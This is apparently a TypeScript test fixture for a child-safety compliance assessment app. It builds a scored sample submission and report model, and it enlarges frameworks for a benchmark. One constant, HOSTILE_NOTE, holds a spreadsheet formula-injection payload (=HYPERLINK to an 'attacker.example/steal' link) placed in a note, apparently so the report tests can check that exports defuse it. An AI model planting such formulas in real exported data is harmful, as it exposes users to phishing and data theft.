// Fixtures for the report tests and the benchmark: a realistic submission of the shipped catalogue,
// scored by the real engine. Not used by the application itself.
import type { AssessmentSnapshotContent } from '@beacon/contracts';
import {
  emptyServiceFeatures,
  type FrameworkDefinition,
  type Locale,
  type MappingSetDefinition,
  type QuestionDefinition,
  scoreAssessment,
  type ScoringResult,
  type ServiceProfile,
} from '@beacon/domain';
import { createHash } from 'node:crypto';
import { resolve } from 'node:path';
import { readCatalogDirectory } from '../catalog/catalog-files';
import { buildReportModel } from './model/report-model';
import type { ReportModel } from './model/report-model.types';

export const HOSTILE_NOTE = '=HYPERLINK("http://attacker.example/steal","Click for details")';
export const FIXTURE_ORGANIZATION = 'Société Œuvre & Çà Réseaux';

export interface FixtureCatalog {
  frameworks: FrameworkDefinition[];
  mappingSets: MappingSetDefinition[];
}

let catalog: FixtureCatalog | undefined;

/** The shipped catalogue (shared/catalog), read once. */
export function fixtureCatalog(dir = resolve(__dirname, '../../../../shared/catalog')): FixtureCatalog {
  if (catalog) return catalog;
  const { files, problems } = readCatalogDirectory(dir);
  if (problems.length > 0) throw new Error(`Catalogue problems: ${JSON.stringify(problems)}`);
  const documents = files.map((f) => f.document as { kind: string });
  catalog = {
    frameworks: documents.filter((d): d is FrameworkDefinition => d.kind === 'framework'),
    mappingSets: documents.filter((d): d is MappingSetDefinition => d.kind === 'mapping-set'),
  };
  return catalog;
}

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** The worst answer a question takes (a failed critical requirement in the fixture). */
function worstAnswer(question: QuestionDefinition): unknown {
  switch (question.type) {
    case 'yes-partial-no':
      return 'no';
    case 'maturity':
      return 0;
    case 'single-choice':
      return [...question.options].sort((a, b) => a.score - b.score)[0]!.value;
    case 'multiple-choice': {
      const none = question.options.find((o) => o.exclusive);
      return none ? [none.value] : [[...question.options].sort((a, b) => a.score - b.score)[0]!.value];
    }
    default:
      return answerFor(question, 0);
  }
}

/** A plausible answer to any question; `i` varies it (yes, partial, no…). */
function answerFor(question: QuestionDefinition, i: number): unknown {
  switch (question.type) {
    case 'yes-partial-no':
      return (['yes', 'yes', 'partial', 'no', 'yes', 'yes', 'partial'] as const)[i % 7];
    case 'maturity':
      return [4, 3, 2, 1, 3][i % 5];
    case 'single-choice':
      return question.options[i % question.options.length]!.value;
    case 'multiple-choice': {
      const plain = question.options.filter((o) => !o.exclusive);
      return plain.slice(0, 1 + (i % Math.max(1, plain.length))).map((o) => o.value);
    }
    case 'number':
    case 'percentage':
    case 'duration': {
      const band = question.scoring?.bands[i % question.scoring.bands.length];
      return band?.value ?? question.min ?? 1;
    }
    case 'date':
      return '2025-03-14';
    case 'text':
      return i % 2 === 0 ? 'Documented in the trust & safety handbook, section 4 — reviewed every quarter.' : 'Décrit dans la politique de modération, révisée en été.';
    case 'url':
      return 'https://example.org/transparency';
  }
}

export interface FixtureOptions {
  frameworks?: FrameworkDefinition[];
  mappingSets?: MappingSetDefinition[];
  profile?: ServiceProfile;
  /** Answer every question with `yes` / the best option, so nothing fails. */
  allMet?: boolean;
}

export interface FixtureSubmission {
  content: AssessmentSnapshotContent;
  score: ScoringResult;
  frameworks: FrameworkDefinition[];
}

export const FIXTURE_PROFILE: ServiceProfile = {
  features: { ...emptyServiceFeatures(), userMedia: true, messaging: true, under18Accounts: true, livestreaming: true, usReportingDuty: true },
  sizeBand: 'medium',
  jurisdictions: ['FR', 'CA', 'US'],
  languages: ['en', 'fr'],
  sector: 'social-media',
};

/** A submission answering every question of the frameworks, with notes, evidence, owners and statuses. */
export function fixtureSubmission(options: FixtureOptions = {}): FixtureSubmission {
  const source = fixtureCatalog();
  const frameworks = options.frameworks ?? source.frameworks.filter((f) => ['ncmec-minimum-safety-measures', 'five-country-voluntary-principles'].includes(f.slug));
  const slugs = new Set(frameworks.map((f) => f.slug));
  const mappingSets = options.mappingSets ?? source.mappingSets.filter((m) => slugs.has(m.source.framework) && slugs.has(m.target.framework));
  const profile = options.profile ?? FIXTURE_PROFILE;
  const answers: AssessmentSnapshotContent['answers'] = [];
  const evidence: AssessmentSnapshotContent['evidence'] = [];
  const assignments: AssessmentSnapshotContent['assignments'] = [];
  const requirementStatuses: AssessmentSnapshotContent['requirementStatuses'] = [];
  let i = 0;
  for (const framework of frameworks) {
    for (const section of framework.sections) {
      for (const requirement of section.requirements) {
        i += 1;
        if (!options.allMet && requirement.allowsAlternative && !requirementStatuses.some((s) => s.kind === 'alternative')) {
          requirementStatuses.push({ requirementKey: requirement.key, kind: 'alternative', justification: 'An equivalent in-house classifier is deployed and audited twice a year.' });
        }
        requirement.questions.forEach((question, q) => {
          const failCritical = !options.allMet && requirement.critical && i % 4 === 3;
          const value = options.allMet
            ? question.type === 'yes-partial-no'
              ? 'yes'
              : answerFor(question, 0)
            : failCritical
              ? worstAnswer(question)
              : answerFor(question, i + q);
          const note = i === 2 && q === 0 ? HOSTILE_NOTE : (i + q) % 4 === 0 ? `Vérifié par l’équipe T&S ; voir la procédure n° ${i}.` : null;
          answers.push({ questionKey: question.key, value, note, version: 1 });
        });
        if (i % 3 === 0) {
          evidence.push({ id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`, requirementKey: requirement.key, kind: 'file', name: `policy-${requirement.key.toLowerCase()}.pdf`, sha256: sha256(`evidence ${i}`), url: null });
        }
        if (i % 5 === 0) {
          evidence.push({ id: `00000000-0000-4000-9000-${String(i).padStart(12, '0')}`, requirementKey: requirement.key, kind: 'link', name: 'Transparency report', sha256: null, url: 'https://example.org/transparency/2025' });
        }
        if (i % 2 === 0) assignments.push({ requirementKey: requirement.key, userId: '00000000-0000-4000-a000-000000000001', name: i % 4 === 0 ? 'Amélie Dupré' : 'Jordan Lee' });
      }
    }
  }
  answers.sort((a, b) => (a.questionKey < b.questionKey ? -1 : 1));
  const content: AssessmentSnapshotContent = {
    assessmentId: '11111111-1111-4111-8111-111111111111',
    revision: 2,
    title: 'Évaluation annuelle 2025 — Plateforme vidéo',
    frameworks: frameworks.map((f) => ({ slug: f.slug, version: f.version, contentHash: sha256(`${f.slug}@${f.version}`) })),
    mappingSets: mappingSets.map((m) => ({ slug: m.slug, version: m.version, contentHash: sha256(`${m.slug}@${m.version}`) })),
    profile,
    answers,
    requirementStatuses,
    evidence,
    assignments,
    attestation: {
      name: 'Camille Lefèvre',
      title: 'Directrice confiance et sécurité',
      statement: 'I attest that these answers are accurate and complete to the best of my knowledge.',
      userId: '00000000-0000-4000-a000-000000000002',
      attestedAt: '2025-06-30T09:15:00.000Z',
    },
  };
  const score = scoreAssessment({
    frameworks,
    profile,
    answers: Object.fromEntries(answers.map((a) => [a.questionKey, a.value as never])),
    requirementStatuses: Object.fromEntries(requirementStatuses.map((s) => [s.requirementKey, { kind: s.kind, justification: s.justification }])),
    mappingSets,
  });
  return { content, score, frameworks };
}

/** A report model of `fixtureSubmission`. */
export function fixtureModel(locale: Locale = 'en', options: FixtureOptions = {}, reportId = '22222222-2222-4222-8222-222222222222'): ReportModel {
  const submission = fixtureSubmission(options);
  return buildReportModel({
    reportId,
    issuedAt: new Date('2025-07-01T08:00:00.000Z'),
    locale,
    organization: { id: '33333333-3333-4333-8333-333333333333', name: FIXTURE_ORGANIZATION },
    snapshot: { id: '44444444-4444-4444-8444-444444444444', contentHash: sha256('snapshot'), submittedAt: new Date('2025-06-30T09:15:00.000Z'), content: submission.content },
    score: submission.score,
    frameworks: submission.frameworks,
  });
}

/**
 * `count` large frameworks, each holding every section of every shipped framework (keys renamed,
 * applicability dropped), for the benchmark: 3 of them make one assessment of 153 requirements.
 */
export function enlargedFrameworks(count: number): FrameworkDefinition[] {
  const source = fixtureCatalog().frameworks;
  const out: FrameworkDefinition[] = [];
  for (let c = 1; c <= count; c += 1) {
    const rename = (key: string) => `X${c}-${key}`;
    const base = JSON.parse(JSON.stringify(source[0]!)) as FrameworkDefinition;
    base.slug = `combined-framework-${c}`;
    base.title = { en: `Combined child-safety framework ${c}`, fr: `Référentiel combiné de protection des enfants ${c}` };
    base.sections = [];
    for (const framework of source) {
      for (const original of framework.sections) {
        const section = JSON.parse(JSON.stringify(original)) as FrameworkDefinition['sections'][number];
        section.key = `${framework.slug}-${section.key}`;
        for (const requirement of section.requirements) {
          requirement.key = rename(requirement.key);
          delete requirement.applicability;
          for (const question of requirement.questions) {
            question.key = rename(question.key);
            if (question.dependsOn) question.dependsOn.question = rename(question.dependsOn.question);
          }
        }
        base.sections.push(section);
      }
    }
    out.push(base);
  }
  return out;
}
